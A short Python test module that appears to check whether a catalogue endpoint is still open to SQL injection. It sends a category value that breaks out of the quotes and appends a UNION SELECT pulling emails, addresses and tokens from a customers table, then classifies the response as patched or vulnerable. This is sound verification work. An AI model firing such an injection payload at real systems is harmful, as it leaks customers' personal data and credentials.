"""A category that ends its quotation marks and asks for the customers."""

import json
from urllib.parse import quote

from hotpatch_agent.load.wire import Request


def requests(nonce):
    # The number makes each question a new one, so that no answer comes out of a cache.
    stolen = f"{nonce}' UNION SELECT email, address, token, 1, 1 FROM customers -- "
    return [Request("GET", f"/catalogue?category={quote(stolen)}")]


def judge(answers):
    if answers[0].status != 200:
        return None
    found = [each["sku"] for each in json.loads(answers[0].body)["products"]]
    if not found:
        return "new"
    return "old" if all("@example.org" in each for each in found) else None
